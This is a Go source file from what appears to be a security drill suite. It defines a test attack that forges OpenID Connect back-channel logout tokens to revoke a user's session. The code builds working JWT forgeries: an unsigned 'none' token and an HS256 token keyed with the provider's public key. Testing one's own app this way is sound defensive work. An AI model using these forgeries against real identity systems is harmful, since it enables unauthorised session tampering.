package attack

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"time"

	"github.com/redoubt-dev/redoubt/drill/target"
)

func sessionByAForgedLogout() Attack {
	return Attack{
		Name: "session-by-a-forged-logout", Threat: "T13", Group: "people",
		Title:  "A stranger in the office signs Bob out with a logout token that nobody has signed, or with the provider's public key taken for a secret",
		Expect: []string{"identity/token"},
		Honest: "Providers call that address with no credential but the token: its signature is all there is. What is lost is a session, and somebody has to sign in again.",
		Run: func(ctx context.Context, s *Scene) (bool, error) {
			bob, err := s.SignIn(ctx, "bob")
			if err != nil {
				return false, err
			}
			stranger := s.Stranger(target.Inside)
			keys, err := stranger.Get(ctx, s.Issuer+"/jwks")
			if err != nil {
				return false, err
			}
			claims := s.logout()
			for _, token := range []string{unsigned(claims), keyed(claims, keys.Body)} {
				if err := tell(ctx, stranger, "/sign-on/logout", "logout_token", token); err != nil {
					return false, err
				}
			}
			return s.Seen(ctx, `select revoked_at is not null from identity.session where hash = $1`, hashed(session(bob)))
		},
	}
}

// logout is what the provider says when all of Bob's sessions have ended (OpenID Connect Back-Channel Logout 1.0 section 2.4).
func (s *Scene) logout() map[string]any {
	now := time.Now().Unix()
	return map[string]any{"iss": s.Issuer, "aud": "Commons", "sub": "dev-bob", "iat": now, "exp": now + 120, "jti": s.Canary(),
		"events": map[string]any{"http://schemas.openid.net/event/backchannel-logout": map[string]any{}}}
}

// tell sends a form as a program does, with nothing of a browser's.
func tell(ctx context.Context, c *target.Client, path string, pairs ...string) error {
	r, err := c.Request(ctx, http.MethodPost, path, &target.Body{Type: "application/x-www-form-urlencoded", Content: []byte(formOf(pairs...).Encode())})
	if err != nil {
		return err
	}
	r.Header.Del("Origin")
	r.Header.Del("Sec-Fetch-Site")
	_, err = c.Do(r)
	return err
}

// unsigned is a token that says to need no signature (RFC 7519 section 6).
func unsigned(claims map[string]any) string { return unsealed("none", claims) + "." }

// keyed is a token whose secret is a public key, as a verifier takes it that lets the token choose the algorithm (RFC 8725 section 2.1).
func keyed(claims map[string]any, public string) string {
	text := unsealed("HS256", claims)
	seal := hmac.New(sha256.New, []byte(public))
	seal.Write([]byte(text))
	return text + "." + base64.RawURLEncoding.EncodeToString(seal.Sum(nil))
}

func unsealed(algorithm string, claims map[string]any) string {
	part := func(v any) string {
		text, err := json.Marshal(v)
		if err != nil {
			panic(err) // maps of strings and numbers marshal
		}
		return base64.RawURLEncoding.EncodeToString(text)
	}
	return part(map[string]string{"alg": algorithm, "typ": "JWT"}) + "." + part(claims)
}
